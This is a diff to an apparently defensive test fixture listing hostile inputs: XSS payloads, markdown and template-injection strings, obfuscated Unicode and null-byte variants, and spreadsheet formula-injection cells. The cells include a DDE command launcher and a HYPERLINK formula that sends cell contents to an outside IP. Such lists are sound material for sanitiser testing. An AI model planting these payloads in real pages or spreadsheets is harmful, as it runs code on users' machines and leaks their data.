@@ -1,4 +1,4 @@
-"""Strings that would run, fetch or break a page that let them through as markup."""
+"""Strings that would run, fetch, mislead or break a report that let them through as they are."""
 
 HOSTILE = (
     "<script>alert(1)</script>",
@@ -25,4 +25,20 @@ HOSTILE = (
     "&lt;script&gt;alert(22)&lt;/script&gt;",
     "<math><mtext><script>alert(23)</script></mtext></math>",
     "<ScRiPt >alert(24)</sCrIpT >",
+    "\u202e<script>alert(25)</script>\u202c\u2066\u200f",
+    "<script>alert(26)</script>" + "x" * 1_000_000,
+    "a\0<scr\0ipt>alert(27)</script>\x1b[31m\x7f\x85",
+    "[x](javascript:alert(28)) ![y](http://192.0.2.1/y.png) <http://192.0.2.1/>",
+    "a | b\n| --- |\n# h\n- * `c` ~~d~~ @someone #1 www.example.com https://example.com",
+    "```\n<details open ontoggle=alert(30)>\n```",
+    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(31)')()}}",
+    "\ud800<svg/onload=alert(32)>\udfff",
+    "<noscript><p title='</noscript><img src=x onerror=alert(33)>'>",
+    "<textarea><img title='</textarea><img src=x onerror=alert(34)>'>",
 )
+FORMULAS = (
+    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", '"=1+1"',
+    "=cmd|' /C calc'!A0", '=HYPERLINK("http://192.0.2.1/?"&A1)', "\uff1d1+1", "%0A=1+1", "|calc",
+    "x;=1+1", "\u200b=1+1",
+)  # fmt: skip
+"""Cells that a spreadsheet could run."""
